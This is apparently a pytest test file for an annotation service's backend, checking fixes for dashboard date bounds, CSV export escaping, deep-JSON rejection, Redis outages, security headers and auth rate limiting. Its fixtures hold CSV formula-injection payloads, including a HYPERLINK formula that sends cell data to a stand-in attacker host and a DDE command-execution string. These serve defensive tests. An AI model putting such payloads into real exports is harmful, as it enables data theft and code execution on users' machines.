"""What a hostile or unlucky request gets (issue 20, items 3, 5, 7 and 9).

* item 3: the dashboard's date range is bounded (a 400 naming DASHBOARD_MAX_DAYS) and no
  date is a 500 (`to=9999-12-31` was an OverflowError);
* item 5: no CSV we write carries a formula (a model version `=HYPERLINK(...)` came out
  raw in versions.csv);
* item 7: JSON nested 100000 deep is a 400 (was a RecursionError 500); clicks while
  Redis restarts get 503 with Retry-After (were 500);
* item 9: the dashboard sends CSP, X-Frame-Options and nosniff, every answer nosniff;
  failed Basic auth is rate limited per client address (429 with Retry-After).
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io

import pytest
from PIL import Image

from squeezesam.backend.app import create_app
from squeezesam.backend.export_labels import _write_csv
from squeezesam.backend.redis_conn import EmbeddedRedis
from squeezesam.backend.settings import Settings
from squeezesam.backend.store.schema import AnnotationRecord

from .conftest import WorkerPool, click_body, keypoint, make_settings, open_store
from .test_dashboard_figures import obj

WHEN = dt.datetime(2026, 3, 1, 9, tzinfo=dt.UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture()
def dashboard(tmp_path):
    """/dashboard over a SQLite store holding annotations whose model versions and
    annotator names look like formulas; DASHBOARD_MAX_DAYS=30."""
    store = open_store("sqlite", tmp_path)
    versions = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "v1"]
    for i, version in enumerate(versions):
        record = AnnotationRecord(
            annotation_id=i + 1, project_id=7, task_id=100 + i, image_ref=f"/data/{i}.jpg",
            created_at=WHEN, updated_at=WHEN, annotator=1, lead_time=10.0,
            parent_prediction=200 + i, model_version=version, objects=[obj("prediction")],
        )  # fmt: skip
        assert store.save_annotation(record) == "created"
    # the whole app (its JSON errors), over the same SQLite file (<data dir>/labels.db)
    env = {"DASHBOARD_MAX_DAYS": "30", "SQUEEZESAM_DATA_DIR": str(tmp_path / "data")}
    app = create_app(Settings.from_env(env))
    yield app.test_client()
    store.close()


# --- item 3 -----------------------------------------------------------------------------


def test_a_dashboard_range_over_the_limit_is_a_400_naming_the_limit(dashboard):
    for path in ("/dashboard/data.json", "/dashboard/", "/dashboard/per_hour.csv"):
        r = dashboard.get(path + "?project=7&from=1526-01-01&to=2026-12-31")
        assert r.status_code == 400, (path, r.status_code)
        message = r.get_json()["error"]
        assert "at most 30 days" in message and "DASHBOARD_MAX_DAYS" in message, message
    ok = dashboard.get("/dashboard/data.json?project=7&from=2026-02-01&to=2026-03-02")
    assert ok.status_code == 200  # exactly 30 days


@pytest.mark.parametrize(
    "query",
    [
        "to=9999-12-31",
        "from=9999-12-25&to=9999-12-31",
        "from=0001-01-01",
        "to=0001-01-01",
        "from=0001-01-01&to=0001-01-03",
        "to=9999-12-31T23:00:00-05:00",
        "from=garbage",
        "to=2026-13-45",
        "from=%00",
        "project=abc",
        "project=99999999999999999999999",
        "project=-1",
    ],
)
def test_no_dashboard_date_or_project_is_a_500(dashboard, query):
    for path in ("/dashboard/data.json", "/dashboard/versions.csv"):
        r = dashboard.get(f"{path}?{query}")
        assert r.status_code in (200, 400), (query, r.status_code, r.get_data()[:300])
        if r.status_code == 400:
            assert r.get_json()["error"]


# --- item 5 -----------------------------------------------------------------------------


def test_dashboard_csv_cells_that_look_like_formulas_get_a_leading_quote(dashboard):
    r = dashboard.get("/dashboard/versions.csv?project=7&from=2026-03-01&to=2026-03-01")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    versions = {row["model_version"] for row in rows}
    assert versions == {"'" + EVIL, "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\tx", "v1"}
    # figures we write as numbers stay numbers (a number is never a formula)
    assert all(row["annotations"] == "1" for row in rows)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_exported_csv_cells_that_look_like_formulas_get_a_leading_quote(tmp_path):
    _write_csv(
        tmp_path / "objects.csv",
        ["image", "object", "label", "category"],
        [["p1_t1", 1, "other", EVIL], ["p1_t2", -3, "person", "Person"]],
    )
    rows = list(csv.reader(open(tmp_path / "objects.csv", newline="")))
    assert rows[1] == ["p1_t1", "1", "other", "'" + EVIL]
    assert rows[2] == ["p1_t2", "-3", "person", "Person"]  # a number we wrote: kept


# --- item 9: headers, auth rate limit ---------------------------------------------------


def test_the_dashboard_sends_csp_no_framing_and_nosniff(dashboard, tmp_path):
    r = dashboard.get("/dashboard/?project=7&from=2026-03-01&to=2026-03-01")
    assert r.status_code == 200
    csp = r.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "script-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    for path in ("/dashboard/data.json?project=7", "/dashboard/versions.csv?from=x"):
        assert dashboard.get(path).headers["X-Frame-Options"] == "DENY"
    app = create_app(Settings(data_dir=str(tmp_path)))
    for path in ("/health", "/nope"):
        assert app.test_client().get(path).headers["X-Content-Type-Options"] == "nosniff"


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def test_failed_basic_auth_is_rate_limited_per_client_address(tmp_path):
    settings = Settings.from_env({"BASIC_AUTH_USER": "ls", "BASIC_AUTH_PASS": "right",
                                  "AUTH_FAILURES_PER_MINUTE": "5",
                                  "SQUEEZESAM_DATA_DIR": str(tmp_path)})  # fmt: skip
    client = create_app(settings).test_client()
    guesser = {"REMOTE_ADDR": "203.0.113.7"}
    for _ in range(5):
        r = client.get("/versions", headers=basic("ls", "guess"), environ_base=guesser)
        assert r.status_code == 401
    limited = client.get("/versions", headers=basic("ls", "guess"), environ_base=guesser)
    assert limited.status_code == 429 and limited.get_json()["status"] == 429
    assert 1 <= int(limited.headers["Retry-After"]) <= 12  # one token: 60 s / 5
    # while limited, even the right password learns nothing
    right = client.get("/versions", headers=basic("ls", "right"), environ_base=guesser)
    assert right.status_code == 429
    # another address is not affected; /health stays open
    other = client.get("/health", headers=basic("ls", "guess"), environ_base=guesser)
    assert other.status_code == 200
    elsewhere = {"REMOTE_ADDR": "198.51.100.9"}
    r = client.get("/versions", headers=basic("ls", "guess"), environ_base=elsewhere)
    assert r.status_code == 401


# --- item 7 -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/predict", "/webhook", "/setup", "/preannotate"])
def test_json_nested_100000_deep_is_a_400_not_a_500(path, tmp_path):
    client = create_app(Settings(data_dir=str(tmp_path))).test_client()
    for body in ("[" * 100_000, '{"a":' * 100_000):
        r = client.post(path, data=body, content_type="application/json")
        assert r.status_code == 400, (path, r.status_code, r.get_data()[:200])
        assert "nested" in r.get_json()["error"]


def test_clicks_during_a_redis_restart_get_503_with_retry_after(
    model_path, fake_ls, label_config, sample_images, tmp_path
):
    """A real Redis stopped under a real worker and the app: a click is 503 with a retry
    hint (was a 500 ConnectionError); after Redis is back, clicks are answered again."""
    redis_dir = tmp_path / "redis"
    server = EmbeddedRedis(redis_dir, watchdog=False)
    settings = make_settings(server.url, model_path, fake_ls)
    pool = WorkerPool(settings)
    image = sample_images[0]
    w, h = Image.open(image).size
    ref = f"http://{fake_ls.other_host}/public/{image.name}"
    body = click_body(label_config, ref, [keypoint(50, 50, w, h)])
    client = create_app(settings).test_client()
    try:
        pool.start("interactive")
        pool.wait_alive("interactive", 1)
        assert client.post("/predict", json=body).status_code == 200
        server.close()  # Redis stops (a restart, an outage)
        for _ in range(2):
            r = client.post("/predict", json=body)
            assert r.status_code == 503, (r.status_code, r.get_data()[:300])
            assert int(r.headers["Retry-After"]) >= 1
            assert "Redis" in r.get_json()["error"]
        server = EmbeddedRedis(redis_dir, watchdog=False)  # back, on the same socket
        if pool.procs[0].poll() is not None:  # a worker that exited on the lost
            pool.procs.clear()  # connection is restarted (serve's supervisor does that)
            pool.start("interactive")
        pool.wait_alive("interactive", 1)
        assert client.post("/predict", json=body).status_code == 200
    finally:
        pool.stop()
        server.close()


def test_the_app_answers_a_declared_body_over_the_limit_413_before_auth(tmp_path):
    """The app's own check (for any WSGI server; waitress answers first: webserver.py):
    a Content-Length over MAX_REQUEST_BYTES is a 413 before the auth guard, unread."""
    settings = Settings.from_env({"BASIC_AUTH_USER": "ls", "BASIC_AUTH_PASS": "right",
                                  "MAX_REQUEST_BYTES": "1000",
                                  "SQUEEZESAM_DATA_DIR": str(tmp_path)})  # fmt: skip
    client = create_app(settings).test_client()
    r = client.post("/predict", data=b"{" + b" " * 2000 + b"}", content_type="application/json")
    assert r.status_code == 413 and "MAX_REQUEST_BYTES" in r.get_json()["error"]
    r = client.post("/predict", data=b"{" + b" " * 900 + b"}", content_type="application/json")
    assert r.status_code == 401
